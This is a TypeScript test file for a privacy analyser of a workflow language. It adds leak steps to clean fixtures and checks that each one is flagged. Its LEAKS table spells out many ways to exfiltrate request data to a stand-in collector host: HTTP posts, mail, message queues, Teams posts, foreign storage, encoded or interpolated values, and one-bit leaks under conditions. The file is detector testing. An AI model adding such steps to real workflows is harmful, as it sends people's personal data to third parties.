/**
 * The dual of the metamorphic test: a leak added to a clean fixture is found. Each flow of a clean
 * fixture that a request starts, whose request type declares personal or business data, is given
 * one more step that sends that request to a third party and must then get a sharing finding (§3,
 * §9) or, in a secondary-purpose flow, a secondary-use one (§4). The leaks go out by every door
 * (a call, a mail, a Service Bus message, a Teams post, a store in an account the project does not
 * name, plain http to the client's own app), from every place (the flow's start and end, a catch
 * after a `fail`, a `parallel`'s branch, a scope, a loop), as the data itself, as a value computed
 * from it (encoded, parsed again, put in a table, a select, a `let` record, what inline code or a
 * platform service's typed answer gives back) or as one bit of it (a constant sent under a
 * condition on it). A rule that some context of a
 * clean fixture switches off (its trigger, its annotations, a waiver, the steps around the new one,
 * the other flows of its file) lets the leak through here.
 */
import { describe, expect, test } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixtures } from './helpers.js';
import { findings, requestFlows } from './fixture-flows.js';

const CALL = 'call http post "https://collector.example.net/leak" body trigger.body';

/** What a service of the platform answers: a type that declares only technical data about no one. */
const ECHO = 'type Echo {\n  total: number @system.operational\n}\n';

/** Where the leak goes in the flow's steps. */
const LEAKS: Readonly<Record<string, (steps: readonly string[]) => readonly string[]>> = {
  'a call at its end': (steps) => [...steps, `  ${CALL}`],
  'a mail at its end': (steps) => [...steps, '  send mail office365 to "someone@collector.example.net" subject "Hello" body string(trigger.body)'],
  'a call at its start': (steps) => [`  ${CALL}`, ...steps],
  'a call in a catch after a fail': (steps) => [...steps, '  try {', '    fail "first"', '  } catch {', `    ${CALL}`, '  }'],
  'a call in a branch of a parallel': (steps) => [...steps, '  parallel {', '    respond 202', '  } and {', `    ${CALL}`, '  }'],
  // Other doors out: each names a resource that jig.yaml does not name as the client's own.
  'a Service Bus message to another namespace': (steps) => [...steps, '  send trigger.body to servicebus("collector-bus", "inbox")'],
  'a Teams post in another tenant': (steps) => [...steps, '  send string(trigger.body) to teams("9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a", "19:leak@thread.tacv2")'],
  'a store in another storage account': (steps) => [...steps, '  store trigger.body in blob("collectorstorage", "copies")'],
  // The client's app's name, in a subscription jig.yaml does not name: another tenant's app of that name.
  "a function of an app of the client's name in another subscription": (steps) => [
    ...steps,
    '  call function post "/subscriptions/9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a/resourceGroups/crm/providers/Microsoft.Web/sites/ocr-contoso/functions/Leak" body trigger.body',
  ],
  'a call to the client\'s own app over plain http': (steps) => [...steps, '  call http post "http://ocr-contoso.azurewebsites.net/leak" body trigger.body'],
  'a call through a let': (steps) => [...steps, '  let copy = { kept: trigger.body }', '  call http post "https://collector.example.net/leak" body copy.kept'],
  'a call built by interpolation': (steps) => [...steps, '  call http post "https://collector.example.net/leak?d=${string(trigger.body)}" body "ping"'],
  // Control flow carries data (rule 4): a constant sent under a condition on the data tells one bit of it.
  'a constant sent under an if on the data': (steps) => [...steps, '  if string(trigger.body) == "" {', '    call http post "https://collector.example.net/leak" body "empty"', '  }'],
  'a constant sent in a switch case on the data': (steps) => [...steps, '  switch string(trigger.body) {', '    case "x" {', '      call http post "https://collector.example.net/leak" body "x"', '    }', '    default {', '    }', '  }'],
  'a call in a for each over the data': (steps) => [...steps, '  for each part in [trigger.body] {', '    call http post "https://collector.example.net/leak" body part', '  }'],
  'a call in a scope': (steps) => [...steps, '  scope {', `    ${CALL}`, '  }'],
  // A value computed from the data carries its categories, whatever computes it (rule 2).
  'a call of the data encoded': (steps) => [...steps, '  call http post "https://collector.example.net/leak" body base64(string(trigger.body))'],
  'a call of the data parsed again': (steps) => [...steps, '  call http post "https://collector.example.net/leak" body json(string(trigger.body))'],
  'a call of the data in a table': (steps) => [...steps, '  let table = csv table [trigger.body]', '  call http post "https://collector.example.net/leak" body table'],
  'a call of the data in a select': (steps) => [...steps, '  let picked = [trigger.body] select { copy: item }', '  call http post "https://collector.example.net/leak" body picked'],
  'a call of what inline code reads': (steps) => [...steps, '  let computed = javascript "return workflowContext.trigger.outputs.body;"', '  call http post "https://collector.example.net/leak" body computed'],
  'a call of what the platform echoes': (steps) => [...steps, '  let echoed = call http post "https://ocr-contoso.azurewebsites.net/echo" body trigger.body returns Echo', '  call http post "https://collector.example.net/leak" body echoed.total'],
};

const clean = readdirSync(join(fixtures, 'clean')).filter((name) => name.endsWith('.jig'));
const injected = new Map<string, number>();

describe('a clean fixture with a leak added has a finding for it', () => {
  test.each(clean)('%s', (name) => {
    const path = join(fixtures, 'clean', name);
    const text = readFileSync(path, 'utf8');
    const missed: string[] = [];
    for (const flow of requestFlows(text)) {
      if (!flow.declaration || !/@(?:personal|business)\b/.test(flow.declaration)) continue;
      for (const [where, leak] of Object.entries(LEAKS)) {
        const leaking = `${text.replace(flow.text, `${flow.annotations}flow ${flow.name} {\n  trigger http post body ${flow.type}\n${leak(flow.steps).join('\n')}\n}`)}\n${ECHO}`;
        const after = findings(path, leaking);
        // A leak the language refuses (a second `respond`, say) tells nothing.
        if (after.some((f) => f.error && !f.code.startsWith('JIG3'))) continue;
        injected.set(where, (injected.get(where) ?? 0) + 1);
        if (!after.some((f) => f.error && !f.waived && /^JIG3[349]/.test(f.code))) missed.push(`${flow.name}, ${where}: ${after.map((f) => f.code).join(', ') || 'No problems'}`);
      }
    }
    expect(missed, name).toEqual([]);
  });

  // A leak the language refuses everywhere would test nothing.
  test.each(Object.keys(LEAKS))('%s was added to enough flows to test something', (where) => {
    expect(injected.get(where) ?? 0).toBeGreaterThanOrEqual(60);
  });
});
